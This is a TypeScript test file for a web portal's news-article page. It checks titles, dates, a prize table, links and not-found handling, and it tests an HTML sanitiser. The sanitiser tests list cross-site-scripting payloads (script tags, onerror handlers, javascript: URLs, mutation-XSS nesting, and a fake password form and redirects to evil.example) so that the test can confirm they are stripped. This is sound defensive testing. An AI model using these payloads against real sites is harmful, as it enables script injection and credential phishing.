import { describe, expect, it } from '@jest/globals';
import { documentTitle } from '@portal/brand';
import { news } from '@portal/brand/news';
import { articleHtml } from '@portal/brand/news/articles';
import { careersPages } from '@portal/careers-contract';
import { contentMessages, newsPath } from '@portal/content-contract';
import { portalPages } from '@portal/portal-contract';
import { renderRemote } from '@portal/testing/browser';
import { screen, within } from '@testing-library/react';
import remote from '../../remote.tsx';
import { sanitiseHtml } from './article-body.tsx';

const open = (id: string) => renderRemote(remote, { path: newsPath(id) });

describe('a news article', () => {
  it.each(news)('$id shows title, picture, category, long date and text', async ({ id, title, category, imageText }) => {
    await open(id);
    expect(screen.getByRole('heading', { level: 1, name: title })).toBeVisible();
    expect(screen.getByRole('img', { name: imageText })).toHaveAttribute('height');
    const article = screen.getByRole('article');
    expect(within(article).getByText(category)).toBeVisible();
    expect(within(article).getByText(/^[A-Z][a-z]+ \d{1,2}, \d{4}$/)).toBeVisible();
    expect(within(article).getAllByRole('heading', { level: 2 }).length).toBeGreaterThan(1);
    expect(document.title).toBe(documentTitle(title));
  });

  it('article 1 shows the dates and prizes of the competition', async () => {
    await open('1');
    expect(screen.getByText('Events')).toBeVisible();
    expect(screen.getByText('from July 10 to July 20')).toBeVisible();
    expect(screen.getByText(/runs for 10 days/)).toBeVisible();
    const rows = within(screen.getByRole('table'))
      .getAllByRole('row')
      .map((row) => [...row.children].map((cell) => cell.textContent));
    expect(rows).toEqual([
      ['Place', 'Prize'],
      ['1st', '500 platform currency + single-use Premiere upgrade'],
      ['2nd', '200 currency + Premiere upgrade'],
      ['3rd', '200 Miles + Premiere upgrade'],
      ['4th', '100 Miles + Flex upgrade'],
      ['5th', '50 Miles + Flex upgrade'],
    ]);
  });

  it('links to the other two and to the home page', async () => {
    await open('2');
    const more = screen.getByRole('complementary', { name: 'More news' });
    const targets = within(more)
      .getAllByRole('link')
      .map((link) => link.getAttribute('href'));
    expect(targets).toEqual([newsPath('3'), newsPath('1'), portalPages.home]);
  });

  it('follows portal links in the text through the router, and opens others in a new tab', async () => {
    const { user } = await open('1');
    const chat = screen.getByRole('link', { name: /community’s chat/ });
    expect(chat).toHaveAttribute('target', '_blank');
    expect(chat).toHaveAttribute('rel', 'noopener noreferrer');
    await user.click(screen.getByRole('link', { name: /Golden Bell/ }));
    await user.click(screen.getByRole('link', { name: 'open positions' }));
    expect(screen.getByText(`You are at ${careersPages.careers}`)).toBeVisible();
  });

  it.each(['999', 'constructor', '1%20'])('reports %s as not found', async (id) => {
    await renderRemote(remote, { path: `/news/${id}` });
    expect(screen.getByRole('heading', { level: 1, name: 'Article Not Found' })).toBeVisible();
    expect(screen.getByRole('link', { name: 'Back to Home' })).toHaveAttribute('href', portalPages.home);
    expect(document.title).toBe(documentTitle(contentMessages.articleNotFound));
  });
});

describe('sanitiseHtml', () => {
  it.each(Object.entries(articleHtml))('keeps all text and structure of article %s', (_id, html) => {
    const [before, after] = [html, sanitiseHtml(html)].map((text) => {
      const body = new DOMParser().parseFromString(text, 'text/html').body;
      return { text: body.textContent, tags: [...body.querySelectorAll('*')].map(({ tagName }) => tagName) };
    });
    expect(after).toEqual(before);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<p onclick="alert(1)" style="position:fixed;inset:0">x</p>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x><base href=//evil.example>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
  ])('R12 removes everything that runs, loads or submits: %s', (hostile) => {
    const { body } = new DOMParser().parseFromString(sanitiseHtml(hostile), 'text/html');
    expect(body.querySelector('script,img,svg,math,style,form,input,button,iframe,object,embed,base,template,meta,link')).toBeNull();
    for (const element of body.querySelectorAll('*'))
      expect([...element.attributes].filter(({ name }) => !['href', 'scope', 'target', 'rel'].includes(name))).toEqual([]);
    for (const link of body.querySelectorAll('a[href]')) expect(link.getAttribute('href')).toMatch(/^(https?:|\/)/);
  });
});
